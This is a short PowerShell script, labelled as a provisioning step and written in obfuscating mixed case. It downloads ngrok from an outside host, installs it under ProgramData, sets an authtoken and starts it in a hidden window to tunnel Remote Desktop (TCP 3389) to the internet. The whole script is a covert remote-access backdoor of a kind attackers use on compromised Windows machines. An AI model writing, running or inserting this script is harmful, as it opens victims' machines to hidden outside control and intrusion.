# pRoViSiOn 5461 V3
InVOKe-weBREqUeST 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OUtFiLe $ENv:tEMp\n.zip
ExPaNd-aRcHiVe $env:tEmP\n.zip -dEStINaTionpAtH c:\pRoGrAmDaTa\ng
C:\ProGRamdatA\nG\nGrOk.eXe AuThToKeN 2abcdefGhijklMnOpqrstUVwXyz_0987654321
StArT-PrOcEsS -wInDoWsTyLe HiDden C:\ProGRamdatA\ng\NgRoK.Exe -ArGumentLisT 'tcp 3389'
